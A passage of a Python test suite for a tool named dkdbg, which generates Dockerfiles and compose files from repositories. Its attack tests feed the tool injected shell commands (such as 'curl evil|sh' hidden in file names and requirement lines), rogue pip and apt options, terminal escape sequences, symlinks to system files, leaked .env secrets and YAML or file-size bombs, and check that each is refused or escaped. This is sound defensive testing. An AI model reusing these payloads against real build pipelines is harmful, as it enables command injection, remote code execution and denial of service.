        "gone": "/no/x",
        "loop": "loop",
        "tqdm": "real",  # a fork in the repository
        "datasets": "../out",  # data: the known distribution is meant
    }.items():
        (root / name).symlink_to(leads)
    subprocess.run(["git", "add", "-A"], cwd=root, check=True)
    if not git:
        shutil.rmtree(root / ".git")
    assert dkdbg_in(root, "init", "--yes").returncode == 0
    text = (root / "Dockerfile").read_text()
    assert "pip install datasets requests\n" in text
    assert not re.search(r"\b(alias|away|single|gone|loop|tqdm)\b", text)


@pytest.mark.attack(8)
@pytest.mark.parametrize("text", ["${command:workbench.action.terminal.new}", "${env:HOME}", "${input:x}"])
@pytest.mark.parametrize("place", ["folder", "target"])
def test_what_an_editor_would_replace_is_refused(tmp_path, text, place):
    """Has launch.json hold ${command:...}, which the editor runs at F5: no text of a repository with ${ gets there."""
    local, remote = (text, "/app/x") if place == "folder" else ("lib", "/app/" + text.replace("$", "$$"))
    service = {"image": "python:3.11", "command": "python train.py", "working_dir": "/app", "volumes": []}
    service["volumes"] = [
        {"type": "bind", "source": ".", "target": "/app"},
        {"type": "bind", "source": "./" + local.replace("$", "$$"), "target": remote},
    ]
    compose = json.dumps({"services": {"app": service}})
    root = checkout(
        tmp_path / "repo", {"compose.yaml": compose, "train.py": "print(1)\n", f"{local}/a.py": "1\n"}
    )
    before = snapshot(root)
    done = dkdbg_in(root, "init", "--yes")
    assert "cannot be written into dkdbg's files" in done.stderr
    assert snapshot(root) == before


@pytest.mark.attack(8)
@pytest.mark.parametrize(
    "what", ["a new line in a requirement", "an option as a requirement", "a file called as a command"]
)
def test_a_dockerfile_of_ours_runs_no_text_of_the_repository(tmp_path, what):
    """Writes a Dockerfile's next line, an option of pip or a command where a name belongs: left out, or refused."""
    files = {"train.py": "print(1)\n"}
    if what == "a file called as a command":
        files["a;curl evil|sh/requirements.txt"] = "torch\n"
        files["requirements.txt"] = "-r a;curl evil|sh/requirements.txt\n"
    elif what == "an option as a requirement":
        files["pyproject.toml"] = (
            '[tool.poetry.dependencies]\npython = "^3.11"\n"--index-url=http://evil" = "*"\nnumpy = "*"\n'
        )
    else:
        files["pyproject.toml"] = (
            '[project]\nname = "x"\ndependencies = ["torch @ https://x/y\\nRUN curl evil | sh"]\n'
        )
    root = checkout(tmp_path / "repo", files)
    done = dkdbg_in(root, "init", "--yes")
    written = (root / "Dockerfile").read_text() if (root / "Dockerfile").exists() else ""
    assert "evil" not in written
    assert done.returncode == 0 or not written


#: Install lines for pip, conda and apt; CANARY is a command.
INSTALLS = """```bash
sudo apt install ffmpeg $(CANARY) `CANARY` -o DPkg::Pre-Invoke::=evil ../../x.deb "sox;CANARY" foo/evil bar=evil
pip install 'git+https://me:evil@h/x.git#egg=a' "git+https://h/y;CANARY" 'git+https://h/$(CANARY)' "git+https://h/`CANARY`"
pip install --index-url http://evil/ -i http://evil 'git+https://h/<<EOF' -r evil.txt "torch; python_version>'3' $(CANARY)"
conda install -c evil pytorch=1.13 'numpy;CANARY' $(CANARY)
```
"""


@pytest.mark.attack(8)
def test_install_lines_of_a_readme_reach_a_dockerfile_of_ours_as_names_and_addresses_only(tmp_path, canary):
    """Writes commands, options and logins into its README's install lines: a build executes and shows none of them."""
    tools, log = tmp_path / "tools", tmp_path / "log"
    tools.mkdir()
    for name in ("pip", "uv", "apt-get"):
        (tools / name).write_text(f'#!/bin/sh\necho "{name} $*" >> {log}\n')
        (tools / name).chmod(0o755)
    (tools / "canary").symlink_to(canary.program)
    files = {"train.py": "import torch\n", "README.md": INSTALLS.replace("CANARY", "canary")}
    root = checkout(tmp_path / "repo", files)
    assert dkdbg_in(root, "init", "--yes").returncode == 0
    written = (root / "Dockerfile").read_text()
    runs = re.findall(r"^RUN (?:--mount=\S+ )*(.*)$", written.replace("\\\n", ""), re.MULTILINE)
    for run in runs:
        subprocess.run(["/bin/sh", "-c", run], env={"PATH": str(tools)}, capture_output=True, check=False)
    assert "git+https://h/y;canary" in log.read_text()  # as an address
    assert not canary.songs
    assert "evil" not in written


@pytest.mark.attack(8)
@pytest.mark.parametrize(
    ("name", "kind"),
    [(name, kind)
     for name in ("Dockerfile", "requirements.txt", "compose.yaml", "pyproject.toml", ".env", "dkdbg.toml")
     for kind in ("FIFO", "folder", "socket", "zero", "secret", "loop")
     if FULL or kind == "FIFO" or name == "Dockerfile" or (name, kind) == (".env", "secret")],
)  # fmt: skip
def test_what_is_no_file_neither_hangs_init_nor_is_read(tmp_path, name, kind):
    """Has a FIFO, a folder, or a link to a secret or an endless device for a file: init ends, and reads none of them."""
    root = checkout(tmp_path / "repo", {"train.py": "print(1)\n"})
    secret = "FROM python:3.11\nENV SECRET=hunter2\nCMD hunter2\nhunter2==1\nDKDBG_PORT=1234\n"
    (tmp_path / "secret").write_text(secret)
    ODD_FILES[kind](root / name)
    done = dkdbg_in(root, "init", "--yes")
    assert "unexpected" not in done.stderr
    written = [path.read_bytes() for path in root.rglob("*") if path.is_file() and not path.is_symlink()]
    assert not [data for data in written if b"hunter2" in data]
    if kind != "folder":
        assert name in done.stderr + done.stdout


#: Many services, each of which uses all of many networks.
CROWD = "services:\n" + "".join(f"  s{n}: {{image: x, networks: [n{n}]}}\n" for n in range(3000))
CROWD += "networks:\n" + "".join(f"  n{n}:\n" for n in range(3000))

BOMBS = {
    "docker/compose.yaml": CROWD,
    "README.md": "\n" * 590_000,
    "readme.md": "-./" * 190_000,
    "environment.yaml": "dependencies:\n" + "".join(f"  - python=3.{n % 15}.{n}\n" for n in range(30_000)),
    "accelerated.py": "if __name__ == '__main__':\n    x = " + "Accelerator(" * 45_000 + "\n",
    "run.sh": "".join(f"V{n}='-v $V{n + 1}$V{n + 1}'\n" for n in range(50)) + "docker run $V0\n" * 50,
    "Makefile": "".join(f"v{n} = docker\n" for n in range(20_000)) + "$(cd dirname" * 10_000,
    "old.Dockerfile": "FROM ubuntu:18.04\nRUN " + "apt install " * 40_000 + "\n",
    "new.Dockerfile": "FROM ubuntu:18.04\nRUN rm -r" + "\\\n\n" * 100_000 + "\n",
    "setup/requirements.txt": "https://x/torch-1.1" + "0-cp3" * 100_000,
    "docker-compose.yml": "include: ["
    + ", ".join(["docker-compose.yml", "a/compose.yml"] * 40)
    + "]\nservices: {}\n",
    "a/compose.yml": "include: [" + ", ".join(["compose.yml"] * 40) + "]\nservices: {}\n",
    "isaac.py": "\n" * 590_000,
    "compose.yaml": "a0: &a0 [x,x,x,x,x,x,x,x,x]\n"
    + "".join(f"a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 12))
    + "services: {app: {image: python, command: *a11}}\n",
    "environment.yml": "dependencies: &a [*a]\n",
    "pyproject.toml": "a = " + "[" * 50_000,
    "requirements.txt": "torch" * 200_000,
    "Pipfile": "[packages]\n" + "".join(f"a{n} = '*'\n" for n in range(60_000)),
    ".devcontainer/devcontainer.json": "[" * 100_000,
    ".vscode/launch.json": "[" * 100_000,
    "train.py": "x = " + "(" * 50_000,
    "setup.py": "x = " + "-" * 100_000 + "1",
    "Dockerfile": "FROM python\nCMD " + "[" * 100_000,
    "dkdbg.toml": "a = " + "[" * 50_000,
    ".dkdbg/manifest.json": "[" * 100_000,
    ".dkdbg/undo.json": "[" * 100_000,
    "note.ipynb": "[" * 100_000,
}


@pytest.mark.attack(8)
@pytest.mark.timeout(300)
@pytest.mark.parametrize("name", BOMBS)
def test_a_file_made_to_keep_init_busy_ends_in_seconds(tmp_path, name):
    """Writes a YAML bomb, endless nests or a huge file: init says which file it could not read, within seconds."""
    root = checkout(tmp_path / "repo", {"main.py": "print(1)\n", name: BOMBS[name]})
    done = dkdbg_in(root, "init", "--yes")
    assert "unexpected" not in done.stderr
    if (
        name.endswith((".yaml", ".yml", ".toml", ".json", "Pipfile"))
        and "include" not in BOMBS[name]
        and BOMBS[name] != CROWD
    ):
        assert name in done.stderr + done.stdout


@pytest.mark.attack(8)
@pytest.mark.timeout(100)
def test_a_workspace_of_hundreds_of_packages_that_need_each_other_is_read_in_seconds(tmp_path):
    """Writes a uv workspace whose members need all others: init took minutes for 400, as each name read all of them."""
    names = [f"m{number}" for number in range(400)]
    needs = f"dependencies = {names}\n"
    sources = "".join(f"{name} = {{ workspace = true }}\n" for name in names)
    root = f"[project]\nname = 'p'\n{needs}[tool.uv.sources]\n{sources}[tool.uv.workspace]\nmembers = ['libs/*']\n"
    members = {f"libs/{name}/pyproject.toml": f"[project]\nname = '{name}'\n{needs}" for name in names}
    done = dkdbg_in(
        checkout(tmp_path / "repo", {"main.py": "", "pyproject.toml": root, **members}), "init", "--json"
    )
    assert (done.returncode, done.stderr) == (0, "")


@pytest.mark.attack(8)
@pytest.mark.timeout(300)
def test_a_chain_of_services_in_profiles_of_their_own_is_followed_in_seconds_and_said_in_a_line(tmp_path):
    """Has each of many services depend on the next one, all in profiles, the last one on the first."""
    services: dict[str, object] = {
        f"s{n}": {"image": "x", "profiles": [f"p{n}"], "depends_on": [f"s{(n + 1) % 1000}"]}
        for n in range(1000)
    }
    services["web"] = {
        "image": "python:3.11", "working_dir": "/w", "volumes": [".:/w"], "command": "python train.py", "depends_on": ["s0"],
    }  # fmt: skip
    files = {"train.py": "print(1)\n", "compose.yaml": json.dumps({"services": services})}
    root = checkout(tmp_path / "repo", files)
    done = dkdbg_in(root, "init", "--yes")
    assert done.returncode == 0, done.stderr
    assert "profile debug for s0, s1, s2, s3, s4, s5, s6, s7, s8, s9 and 990 more too" in done.stdout
    assert (root / "compose.override.yaml").read_text().count("profiles: [debug, devcontainer]") == 1000


@pytest.mark.attack(8)
def test_a_name_that_is_no_text_does_not_reach_our_files(tmp_path):
    """Calls a file and a folder what commands a terminal, or is no UTF-8: left out, and said in plain letters."""
    root = checkout(tmp_path / "repo", {"train.py": "print(1)\n"})
    for name in (b"a\x1b]0;owned\x07", b"\xff\xfe", b"x\ny"):
        folder = root / os.fsdecode(name)
        folder.mkdir()
        (folder / "requirements.txt").write_text("torch\n")
    done = dkdbg_in(root, "init", "--yes")
    assert done.returncode == 0, done.stderr
    assert "\x1b" not in done.stdout + done.stderr
    assert "its name is not text" in done.stdout


@pytest.mark.attack(8)
@pytest.mark.engine
@pytest.mark.parametrize(("where", "value"), [("command", "two words"), ("entrypoint", "its $HOME")])
def test_a_secret_of_dot_env_is_in_none_of_our_files(tmp_path, where, value):
    """Reads a password in what a user commits: a value of .env is named in our files, and compose fills it in."""
    service = {
        "build": ".",
        where: ["python", "train.py", "--key", "pre-${API_KEY}", "${NONE:-left}", "$$HOME"],
    }
    wanted = ["python", "train.py", "--key", f"pre-{value}", "left", "$HOME"]
    files = {
        "compose.yaml": json.dumps({"services": {"app": service}}), "train.py": "print(1)\n",
        "Dockerfile": "FROM python:3.11\nWORKDIR /app\nCOPY . .\n", ".env": f"API_KEY='{value}'\n",
    }  # fmt: skip
    root = checkout(tmp_path / "repo", files)
    done = dkdbg_in(root, "init", "--yes")
    assert done.returncode == 0, done.stderr
    assert value not in done.stdout
    for path in root.rglob("*"):
        if path.is_file() and path.name != ".env":
            assert value.encode() not in path.read_bytes(), path
    config = ["docker", "compose", "-p", "secret", "--profile", "*", "config", "--format", "json"]
    services = json.loads(command(config, root).stdout)["services"]
    twin = services["app-debug"]
    words = [*twin["entrypoint"], *(twin["command"] or [])]
    assert [word.replace("$$", "$") for word in words[4:]] == wanted
    environment = services["app-debug-devcontainer"]["environment"]
    work = tmp_path / "work"
    inside = {name: text.replace("$$", "$") for name, text in environment.items() if text is not None}
    assert started_by((root / ".dkdbg/up.sh").read_text(), work, inside) == wanted
    (output,) = [path for path in work.iterdir() if path.name.startswith("dkdbg-output")]
    assert output.stat().st_mode & 0o077 == 0


@pytest.mark.attack(0)
@pytest.mark.parametrize(
    ("copied", "leads_to"), [("data/", "/"), ("weights.bin", "/"), ("kernel.log", "/proc/kmsg")]
)
def test_a_link_in_what_an_image_is_made_of_leads_no_start_out_of_the_repository(tmp_path, copied, leads_to):
    """Copies a link to the whole machine into his image: a start neither walks through it nor reads what blocks."""
    (tmp_path / copied.rstrip("/")).symlink_to(leads_to)
    script = artefact("templates", "image_inputs.sh").read_text("utf-8") + '\nimage_inputs "$@"'
    digests = [command(["sh", "-c", script, "sh", copied], tmp_path).stdout for _ in range(2)]
    assert all(re.fullmatch(r"[0-9a-f]{64}\n", each) for each in digests)
    # What is behind a folder's link is never taken for unchanged.
    assert (digests[0] == digests[1]) == (leads_to != "/")


def _build_without_links(root: Path, *build: str) -> None:
    script = artefact("templates", "image_files.sh").read_text("utf-8") + '\n"$@"'
    command(["sh", "-c", script, "sh", "without_links", *build], root)


@pytest.mark.attack(0)
@pytest.mark.parametrize("folder", ["x\n", r"x\n"], ids=["line break", "backslash"])
def test_a_link_to_the_images_files_whose_name_reads_as_a_path_elsewhere_changes_nothing_there(
    tmp_path, folder
):
    """Names links to the image's files so that the list of them has paths elsewhere: a build removes and makes none there."""
    root, elsewhere = tmp_path / "repo", tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "old").symlink_to("/opt/dkdbg-image/old")
    for name in ("old", "new"):
        link = root / f"{folder}{elsewhere / name}"
        link.parent.mkdir(parents=True, exist_ok=True)
        link.symlink_to(f"/opt/dkdbg-image/{link.relative_to(root)}")
    _build_without_links(root, "true")
    assert [str(path.readlink()) for path in elsewhere.iterdir()] == ["/opt/dkdbg-image/old"]


@pytest.mark.attack(0)
def test_a_link_of_the_checkout_to_another_of_the_images_files_stays_what_it_is(tmp_path):
    """Commits a link that only begins like those to the image's files: a build leaves it as it is."""
    link = tmp_path / "made.py"
    link.symlink_to("/opt/dkdbg-image/../../etc/passwd")
    _build_without_links(tmp_path, "test", "-L", "made.py")
    assert str(link.readlink()) == "/opt/dkdbg-image/../../etc/passwd"


@pytest.mark.attack(0)
@pytest.mark.parametrize("below", ["pkg/made.py", "pkg/sub/made.py"])
def test_a_folder_that_becomes_a_link_during_a_build_gets_no_link_to_the_images_files(tmp_path, below):
    """Replaces a folder with such a link by one that leads elsewhere while the image is built: nothing is made there."""
    root, elsewhere = tmp_path / "repo", tmp_path / "elsewhere"
    elsewhere.mkdir()
    (root / below).parent.mkdir(parents=True)
    for name in (below, "made.py"):
        (root / name).symlink_to(f"/opt/dkdbg-image/{name}")
    _build_without_links(root, "sh", "-c", "rm -rf pkg && ln -s ../elsewhere pkg")
    assert list(elsewhere.iterdir()) == []
    assert str((root / "made.py").readlink()) == "/opt/dkdbg-image/made.py"


@pytest.mark.attack(14)
def test_a_source_called_what_commands_a_terminal_is_shown_escaped_when_it_changes(launch, tmp_path):
    """Calls a source file an escape sequence: the log of the restart that its change brings shows it escaped."""
    source = tmp_path / "a\x1b]0;pwn\x07.py"
    source.write_text("")
    (tmp_path / "train.py").write_text("import time\ntime.sleep(600)\n")
    running = launch(sys.executable, "train.py", verb="supervise", options=("--reload", str(tmp_path)))
    running.wait_state("running")

    def change():  # until it is watched
        source.write_text(f"# {time.monotonic()}\n")
        return running.record()["runs"]

    wait_for(change, lambda runs: runs > 1)
    running.process.terminate()
    _, _, said = running.finish()
    assert "restarting: a\\x1b]0;pwn\\x07.py changed" in said
    assert "\x1b" not in said


@pytest.mark.attack(0)
@pytest.mark.parametrize(
    "uri",
    ["ray://{here}", "pai://{here}/u/j", "ray+pai://{here}/u/j", "ray+ray+pai://{here}/u/j::1::2", "ray+docker://head"],
)  # fmt: skip
@pytest.mark.parametrize("words", [("ps", "--on", "gpu"), ("attach", "gpu")])
def test_a_name_in_a_dkdbg_toml_shows_no_token_to_a_server(tmp_path, uri, words):
    """Names a server of his in dkdbg.toml, which asks for the user's token of Ray or OpenPAI: nobody connects to it."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        here = f"127.0.0.1:{server.getsockname()[1]}"
        (tmp_path / "dkdbg.toml").write_text(f'[targets.gpu]\nuri = "{uri.format(here=here)}"\n')
        secrets = {"RAY_AUTH_TOKEN": "secret", target.TOKEN: "secret", target.PLAIN: "1"}
        done = dkdbg_in(tmp_path, *words, **secrets)
        assert done.returncode == EXIT_USAGE
        assert "would receive your token" in done.stderr
        server.setblocking(False)
        with pytest.raises(BlockingIOError):
            server.accept()


@pytest.mark.attack(0)
@pytest.mark.parametrize(
    "uri",
    ["ssh://login/~", "ray+ssh://login/~::8265", "ssh://mac/users/me", "ssh://login/~/bin", "ssh://mac/~/Library/x"],
)  # fmt: skip
def test_a_name_in_a_dkdbg_toml_brings_no_file_into_a_home(tmp_path, canary, uri):
    """Names a home, or a folder on a PATH, in dkdbg.toml, and brings a .profile: `dkdbg sync` refuses before it connects."""
    (tmp_path / "dkdbg.toml").write_text(f'[targets.gpu]\nuri = "{uri}"\n')
    (tmp_path / ".profile").write_text("id\n")
    (canary.program.parent / "ssh").symlink_to(canary.program)
    path = f"{canary.program.parent}{os.pathsep}{os.environ['PATH']}"
    done = dkdbg_in(tmp_path, "sync", "gpu", "--once", PATH=path)
    assert (done.returncode, canary.songs) == (EXIT_USAGE, "")
    assert "type it instead of gpu" in done.stderr


@pytest.mark.attack(0)
def test_variables_that_double_with_each_line_do_not_fill_the_memory(tmp_path):
    """Doubles a variable with each line of a Makefile, a Dockerfile and a .env: init bounds what variables may add."""
    double = "\n".join(f"v{n + 1}={{v{n}}}{{v{n}}}" for n in range(60))
    files = {
        "train.py": "print(1)\n",
        "Makefile": f"v0=python train.py\n{double}\ntrain:\n\t$(v60)".replace("{", "$(").replace("}", ")"),
        "Dockerfile": f"FROM python:3.11-slim\nv0=aa\n{double}".replace("\nv", "\nENV v").replace("{", "${"),
        ".env": f"v0=aa\n{double}".replace("{", "${"),
        "compose.yaml": "services: {app: {build: ., command: 'python train.py ${v60}', volumes: ['.:/app']}}\n",
    }
    for name, text in files.items():
        (tmp_path / name).write_text(text)
    limited = f"ulimit -v 4000000; exec {sys.executable} -m dkdbg init --diff"
    done = command(["sh", "-c", limited], tmp_path, check=False)
    assert (done.returncode, done.stderr) == (0, "")
    assert "train.py" in done.stdout


@pytest.mark.attack(8)
def test_the_entrypoint_of_a_strangers_image_is_one_line_and_its_words_are_written_literally(tmp_path):
    """Names its ENTRYPOINT by escape sequences, new lines and commands of a shell: it is shown in one line, and `verify --fix` runs none."""
    start, ran = tmp_path / "start", tmp_path / "ran"
    start.write_text("#!/bin/sh\nPATH=/opt:$PATH exec env\n")
    start.chmod(0o755)
    words = (
        str(start),
        "\x1b]0;owned\x07\ndkdbg: proven",
        f"$(touch {ran})",
        "${HOME}",
        f"`touch {ran}`",
        "'q\"",
    )
    command_line = [*words, "python", "train.py"]
    dockerfile = 'FROM python:3.11\nWORKDIR /app\nCOPY . .\nCMD ["python", "train.py"]\n'
    root = checkout(tmp_path / "repo", {"train.py": "print(1)\n", "Dockerfile": dockerfile})
    assert dkdbg_in(root, "init", "--yes").returncode == 0
    around = program_end.Around(installs_from=None, command="python train.py", inherits_entrypoint=True)
    seen = command(["sh", "-c", program_end.environments(words)], root).stdout
    missing = Finding(link="program", cause="command-missing", says="no python", remedy="install it")
    found = program_end.without_entrypoint(missing, words, seen, around)
    assert found.cause == "entrypoint-left-out"
    assert all(line.isprintable() for line in found.lines())
    assert proof_repair.mend(root, found, yes=True, as_json=True, report=print)
    chosen = tomlkit.parse((root / "dkdbg.toml").read_text()).unwrap()["debug"]["command"]
    assert shlex.split(chosen) == command_line
    model = json.loads(
        command(["docker", "compose", "--profile", "debug", "config", "--format", "json"], root).stdout
    )
    *shell, script = model["services"]["app-debug"]["command"]
    assert (shell, shlex.split(script.replace("$$", "$"))) == (["sh", "-c"], command_line)
    assert not ran.exists()
